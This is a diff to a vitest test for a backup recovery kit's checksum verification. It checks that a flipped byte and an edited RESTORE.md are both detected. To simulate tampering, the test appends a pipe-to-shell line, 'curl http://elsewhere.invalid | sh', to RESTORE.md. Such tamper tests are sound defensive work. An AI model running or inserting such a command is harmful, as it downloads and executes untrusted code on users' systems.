@@ -1,6 +1,6 @@
 import { execFileSync } from 'node:child_process'
 import { createWriteStream } from 'node:fs'
-import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
+import { appendFile, mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
 import path from 'node:path'
 import { pipeline } from 'node:stream/promises'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -123,7 +123,7 @@ describe('a backup in several parts, from the job to the hands of an administrat
     expect(await readdir(folder)).not.toContain('backup.key')
   })
 
-  it('is not restored by them when one byte of a file is another', async () => {
+  it('is found by them when one byte of a file is another, or RESTORE.md says more', async () => {
     const folder = path.join(product.home, 'by-hand')
     const file = path.join(folder, 'data-2.dump.zst.age')
     const bytes = await readFile(file)
@@ -132,7 +132,13 @@ describe('a backup in several parts, from the job to the hands of an administrat
     const check = kitCommands(recoveryKit, 'HOW TO SEE THAT NOBODY FORGED A BACKUP').filter(
       (line) => !/^npm/.test(line),
     )
-    expect(() => inShell(check.join('\n'), folder)).toThrow('sha256sum: WARNING: 1 computed checksum did NOT match')
+    const broken = 'sha256sum: WARNING: 1 computed checksum did NOT match'
+    expect(() => inShell(check.join('\n'), folder)).toThrow(broken)
+    bytes[bytes.length >> 1] = (bytes[bytes.length >> 1] ?? 0) ^ 1
+    await writeFile(file, bytes)
+    expect(inShell(check.join('\n'), folder)).toContain('RESTORE.md: OK')
+    await appendFile(path.join(folder, 'RESTORE.md'), 'curl http://elsewhere.invalid | sh\n')
+    expect(() => inShell(check.join('\n'), folder)).toThrow(broken)
   })
 
   it('downloads as a tar whose note says how its archives go together', async () => {
